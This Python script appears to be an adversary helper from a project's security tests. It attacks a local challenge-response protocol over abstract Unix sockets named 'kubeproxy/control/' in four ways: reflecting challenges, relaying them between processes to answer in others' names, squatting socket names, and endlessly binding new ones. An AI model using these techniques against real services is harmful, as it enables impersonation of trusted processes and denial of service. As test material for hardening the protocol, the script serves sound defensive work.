"""What a process without CAP_NET_ADMIN does with the challenges of others. It imports nothing of ours.

relay.py reflect PROTOCOL WORD ...   give an owner its own challenge back on a second connection, then send the words
relay.py between [DESCRIPTOR]        listen at a name of its own (or at the inherited socket), pass every challenge that
                                     comes on to every other process, and answer in their names, for as long as it runs
relay.py names COUNT                 bind so many names, older and younger than any other, and say nothing
relay.py nag                         bind a new older name for each process that asks at the last one, and hang up

`between` prints a line for each challenge that somebody has answered.
"""

from __future__ import annotations

import array
import contextlib
import json
import os
import resource
import socket
import sys
import threading
import time
from collections.abc import Iterator

PREFIX = "kubeproxy/control/"
SO_TXTIME = 61
ANSWER_S = 4.0


def names() -> list[str]:
    with open("/proc/self/net/unix", errors="replace") as listing:
        fields = [line.split() for line in listing]
    return sorted({it[7][1:] for it in fields if len(it) > 7 and it[7].startswith(f"@{PREFIX}")})


def answered(challenge: int) -> bool:
    """Whether somebody has set the option: the attacker can read it, too."""
    with socket.socket(fileno=os.dup(challenge)) as sock:
        return any(sock.getsockopt(socket.SOL_SOCKET, SO_TXTIME, 8)[:4])


def say(sock: socket.socket, challenge: int | None, **message: object) -> None:
    rights = [] if challenge is None else [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [challenge]))]
    sock.sendmsg([json.dumps(message).encode() + b"\n"], rights, socket.MSG_NOSIGNAL)


def hear(sock: socket.socket) -> tuple[dict[str, object], list[int]]:
    """The next message; an empty one at the end."""
    data, descriptors, _, _ = socket.recv_fds(sock, 4096, 4)
    return json.loads(data.split(b"\n")[0] or "{}"), list(descriptors)


def connect(name: str) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(ANSWER_S)
    sock.connect(f"\0{name}")
    return sock


def hello(name: str, challenge: int, protocol: int) -> tuple[socket.socket, dict[str, object], list[int]]:
    sock = connect(name)
    say(sock, challenge, type="hello", protocol=protocol, pid=1, version="evil")
    return sock, *hear(sock)


def reflect(protocol: int, words: list[str]) -> None:
    for name in names():
        own = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        first, said, challenges = hello(name, own.fileno(), protocol)
        print(said, flush=True)
        if not challenges:
            continue
        with contextlib.suppress(OSError):
            hello(name, challenges[0], protocol)[0].close()
            say(second := connect(name), challenges[0], type="orphan", protocol=protocol, pid=os.getpid(), run="evil")
            time.sleep(0.5)
            second.close()
        print("answered", answered(challenges[0]), flush=True)
        for word in ("proof", *words):
            try:
                say(first, None, type=word)
                print(word, hear(first)[0], flush=True)
            except OSError as error:
                print(word, error, flush=True)
                break
        print("done", flush=True)
        with contextlib.suppress(OSError):
            first.settimeout(None)
            first.recv(1)  # keep the connection, as a holder would


def between(listening: socket.socket, own: str) -> None:
    """`own`: the name to pass nothing to."""
    print("ready", flush=True)
    while True:
        victim, _ = listening.accept()
        try:
            threading.Thread(target=stand_between, args=(victim, own), daemon=True).start()
        except RuntimeError:  # a confined process starts no thread
            stand_between(victim, own)


def stand_between(victim: socket.socket, own: str) -> None:
    """Play the owner to the victim, with the words and the challenges of all the others."""
    with contextlib.suppress(OSError, ValueError), victim:
        first, challenges = hear(victim)
        for name in names():
            if name != own:
                for kind in ("orphan", "hello"):
                    for challenge in challenges:
                        with contextlib.suppress(OSError):
                            pass_on(name, kind, first, challenge, victim)
        for challenge in challenges:
            if answered(challenge):
                print(f"answered: {first.get('type')}", flush=True)
        if first.get("type") == "orphan":
            say(victim, None, type="retire")
        else:
            say(victim, None, type="busy", protocol=first.get("protocol", 1))
        time.sleep(1)


def pass_on(name: str, kind: str, first: dict[str, object], challenge: int, victim: socket.socket) -> None:
    with connect(name) as other:
        say(other, challenge, **{"pid": 1, "version": "evil", "run": "evil", **first, "type": kind})
        if kind == "orphan":
            other.settimeout(0.5)
        said, theirs = hear(other)
        if theirs and first.get("type") == "hello":
            say(victim, theirs[0], **said)
            time.sleep(0.5)
            if answered(theirs[0]):
                print(f"answered: {said.get('type')}", flush=True)


def key(time_ns: int) -> str:
    return f"{PREFIX}{time_ns:016x}-{os.urandom(8).hex()}"


def bind(name: str) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(f"\0{name}")
    sock.listen(64)
    return sock


def squat(count: int) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    bound = [bind(key(number if number % 2 else 2**63 + number)) for number in range(count)]
    print("ready", len(bound), flush=True)
    time.sleep(600)


def nag() -> None:
    def fresh() -> Iterator[socket.socket]:
        while True:
            yield bind(key(1))

    print("ready", flush=True)
    for listening in fresh():
        with listening:
            listening.accept()[0].close()


def main(what: str, *rest: str) -> None:
    """Carry out a command line."""
    if what == "reflect":
        reflect(int(rest[0]), list(rest[1:]))
    elif what == "between":
        listening = socket.socket(fileno=int(rest[0])) if rest else bind(key(2**62))
        between(listening, "" if rest else listening.getsockname()[1:].decode())
    elif what == "names":
        squat(int(rest[0]))
    else:
        nag()


if __name__ == "__main__":
    main(*sys.argv[1:])
